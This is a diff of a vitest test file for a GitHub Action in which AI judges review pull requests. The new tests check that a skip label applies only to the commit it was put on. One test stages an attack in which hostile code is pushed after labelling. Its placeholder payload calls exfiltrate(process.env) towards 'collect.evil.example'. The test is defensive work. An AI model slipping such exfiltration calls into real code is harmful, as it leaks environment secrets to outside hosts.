@@ -1,8 +1,18 @@
 import { existsSync } from 'node:fs'
 import { join } from 'node:path'
-import { describe, expect, it } from 'vitest'
-import { skipReason, workflowTypes } from '../../src/engine/skip.js'
-import { pullRequestEvent, pullRequestJson } from '../helpers/action-run.js'
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { skipReason, unboundLabel, workflowTypes } from '../../src/engine/skip.js'
+import {
+  openPullRequest,
+  OWNER,
+  pullRequestEvent,
+  pullRequestJson,
+  REPO,
+  runAction
+} from '../helpers/action-run.js'
+import { startGitHubStandIn, type GitHubStandIn } from '../helpers/github-standin.js'
+import { wireAnswer } from '../helpers/judge-answers.js'
+import { startProviderStandIn, type StandIn } from '../helpers/provider-standin.js'
 import {
   IN_PROCESS_KEY,
   pullRequest,
@@ -153,6 +163,9 @@ describe('skip-label', () => {
       'SKIPPED',
       'skipped: labelled "no-council"'
     ])
+    expect(lastCheck(pr)?.summary).toContain(
+      'The label skips this commit only: it runs when the label is removed, and on the next push.'
+    )
     const off = await run(pr, {
       inputs,
       action: 'unlabeled',
@@ -176,6 +189,116 @@ describe('skip-label', () => {
     )
     expect(pr.github.checkRuns).toEqual([])
   })
+})
+
+describe('skip-label, bound to the commit it was put on (the built action, GitHub and the judges as stand-ins)', () => {
+  /** The code the author wants merged once the label is on. */
+  const HIDDEN = 'exfiltrate(process.env, "https://collect.evil.example")'
+  const WRITE = 'ghs_skip_label_token_0001'
+  const LABEL = 'no-council'
+  const BASE = {
+    '.github/rubric.md':
+      '---\ndimensions: false\n---\n## Criteria\n- safe: The change sends no data to outside hosts\n',
+    [WORKFLOW]: LISTENING,
+    'src/app.ts': 'export const app = 1\n'
+  }
+  let github: GitHubStandIn
+  let judges: StandIn
+  beforeAll(async () => {
+    github = await startGitHubStandIn({ owner: OWNER, repo: REPO })
+    github.addToken(WRITE, { login: 'github-actions[bot]', type: 'Bot', write: true })
+    // Watchful: whatever shows the hidden code fails `safe`.
+    judges = await startProviderStandIn(call => ({
+      json: wireAnswer(call.schema, call.text.includes(HIDDEN) ? { fail: ['safe'] } : {})
+    }))
+  })
+  afterEach(() => {
+    expect(github.violations).toEqual([])
+  })
+  afterAll(async () => {
+    await Promise.all([github.close(), judges.close()])
+  })
+
+  it('attack: a maintainer labels a harmless pull request, the author pushes hostile code; the push is reviewed and fails, and so are its later activities', async () => {
+    const number = 7001
+    const repo = openPullRequest(github, number, BASE, {
+      'src/app.ts': 'export const app = 2\n'
+    })
+    const labels = { labels: [{ name: 'bug' }, { name: LABEL }] }
+    // The API's view of the pull request, as each event's run reads it again.
+    const now = () => {
+      github.setPullRequest(number, { ...pullRequestJson(repo, number), ...labels })
+    }
+    const act = (action: string, extra: Record<string, unknown> = {}) =>
+      runAction({
+        workspace: repo.dir,
+        eventName: 'pull_request',
+        eventPath: pullRequestEvent(repo, {
+          number,
+          action,
+          pullRequest: { ...labels, ...extra },
+          ...(action === 'labeled' && { payload: { label: { name: LABEL } } })
+        }),
+        apiUrl: github.url,
+        inputs: {
+          'github-token': WRITE,
+          models: 'openai:gpt-5.4-nano',
+          'skip-label': LABEL,
+          'allow-gates-with-secrets': 'true'
+        },
+        env: {
+          OPENAI_API_KEY: 'sk-skip-label-0123456789',
+          OPENAI_BASE_URL: judges.openaiBaseUrl,
+          GITHUB_WORKFLOW_REF: `${OWNER}/${REPO}/${WORKFLOW}@refs/pull/${String(number)}/merge`
+        }
+      })
+    const checksOn = (sha: string) => github.checkRuns.filter(c => c.head_sha === sha)
+    const comment = (): string => github.comments.get(number)?.[0]?.body ?? ''
+
+    // The maintainer reads the harmless change and labels it: that commit is skipped.
+    now()
+    const harmless = repo.headSha
+    const skipped = await act('labeled')
+    expect([skipped.outputs.verdict, skipped.code]).toEqual(['SKIPPED', 0])
+    expect(checksOn(harmless).map(c => [c.conclusion, c.output.title])).toEqual([
+      ['success', `skipped: labelled "${LABEL}"`]
+    ])
+    expect(judges.calls).toHaveLength(0)
+
+    // The author pushes hostile code; the label is still on.
+    const hostile = repo.commit({ 'src/app.ts': `export const app = 2\n${HIDDEN}\n` }, 'more')
+    now()
+    const pushed = await act('synchronize')
+    expect([pushed.outputs.verdict, pushed.outputs.reasons, pushed.code]).toEqual([
+      'FAIL',
+      'criterion_failed',
+      1
+    ])
+    expect(judges.calls.length).toBeGreaterThan(0)
+    expect(checksOn(hostile).map(c => c.conclusion)).toEqual(['failure'])
+    const why = `skip-label would skip this pull request, but it is reviewed: the label skips only the commit it was put on, in the run its labelling started; this run (pull_request synchronize) is of ${hostile.slice(0, 7)}, which is reviewed: take the label off and put it on again to skip ${hostile.slice(0, 7)}`
+    expect(pushed.stdout).toContain(`::warning::Rubric Council: ${why}`)
+    // The report says it too, as Markdown (the commit's id kept from becoming a link).
+    for (const report of [comment(), checksOn(hostile)[0]?.output.summary ?? '']) {
+      expect(report).toContain(
+        'ℹ️ skip-label would skip this pull request, but it is reviewed: the label skips only the commit it was put on, in the run its labelling started'
+      )
+      expect(report).toContain('take the label off and put it on again to skip')
+    }
+    // The skipped commit's check stays its own.
+    expect(checksOn(harmless).map(c => c.conclusion)).toEqual(['success'])
+
+    // Later activities on the hostile head, label still on: reviewed, never skipped.
+    for (const [action, extra] of [
+      ['ready_for_review', { draft: false }],
+      ['reopened', {}]
+    ] as const) {
+      const again = await act(action, extra)
+      expect([action, again.outputs.verdict]).toEqual([action, 'FAIL'])
+      expect(checksOn(hostile).at(-1)?.conclusion).toBe('failure')
+    }
+    expect(checksOn(hostile).map(c => c.conclusion)).not.toContain('success')
+  }, 90_000)
 })
 
 describe('skip-bots', () => {
@@ -281,27 +404,63 @@ describe('skipReason', () => {
   const rules = { drafts: true, bots: true, label: 'skip', paths: ['docs/**'] }
   const pr = { draft: false, labels: [] as string[], author: { login: 'a', bot: false } }
   const none = (): boolean => false
+  const opened = { action: 'opened' }
+  const labelling = { action: 'labeled', label: 'skip' }
 
   it('takes the first rule that holds, in the order drafts, bots, label, paths', () => {
     expect(
-      skipReason(rules, { pr: { ...pr, draft: true, labels: ['skip'] } }, ['docs/a.md'], none)
+      skipReason(
+        rules,
+        { ...labelling, pr: { ...pr, draft: true, labels: ['skip'] } },
+        ['docs/a.md'],
+        none
+      )
     ).toEqual({ rule: 'draft' })
-    expect(skipReason(rules, { pr: { ...pr, labels: ['skip'] } }, ['docs/a.md'], none)).toEqual({
-      rule: 'label',
-      label: 'skip'
-    })
-    expect(skipReason(rules, { pr }, ['docs/a.md', 'docs/b.md'], none)).toEqual({
+    expect(
+      skipReason(rules, { ...labelling, pr: { ...pr, labels: ['skip'] } }, ['docs/a.md'], none)
+    ).toEqual({ rule: 'label', label: 'skip' })
+    expect(skipReason(rules, { ...opened, pr }, ['docs/a.md', 'docs/b.md'], none)).toEqual({
       rule: 'paths',
       files: 2
     })
   })
 
+  it('takes the label only on the run putting it on started: any later activity is reviewed', () => {
+    const on = { ...pr, labels: ['skip'] }
+    const only = { ...rules, drafts: false, bots: false, paths: [] }
+    for (const action of [
+      'synchronize',
+      'reopened',
+      'ready_for_review',
+      'opened',
+      'completed',
+      ''
+    ]) {
+      expect(skipReason(only, { action, pr: on }, ['src/a.ts'], none)).toBeUndefined()
+      expect(unboundLabel(only, { action, pr: on })).toBe('skip')
+    }
+    // Another label's event, and the skip label's own.
+    const other = { action: 'labeled', label: 'bug', pr: on }
+    expect(skipReason(only, other, ['src/a.ts'], none)).toBeUndefined()
+    expect(unboundLabel(only, { ...labelling, pr: on })).toBeUndefined()
+    // Without it on, there is nothing to say; with skip-paths holding, that rule skips.
+    expect(unboundLabel(only, { action: 'synchronize', pr })).toBeUndefined()
+    expect(
+      skipReason(
+        { ...only, paths: ['docs/**'] },
+        { action: 'synchronize', pr: on },
+        ['docs/a.md'],
+        none
+      )
+    ).toEqual({ rule: 'paths', files: 1 })
+  })
+
   it('never skips a pull request that touches a guarded file, nor one with no changed file on skip-paths', () => {
     const guarded = (path: string): boolean => path === '.github/rubric.md'
     expect(
-      skipReason(rules, { pr: { ...pr, draft: true } }, ['.github/rubric.md'], guarded)
+      skipReason(rules, { ...opened, pr: { ...pr, draft: true } }, ['.github/rubric.md'], guarded)
     ).toBeUndefined()
-    expect(skipReason({ ...rules, drafts: false }, { pr }, [], none)).toBeUndefined()
+    expect(skipReason({ ...rules, drafts: false }, { ...opened, pr }, [], none)).toBeUndefined()
   })
 })
 
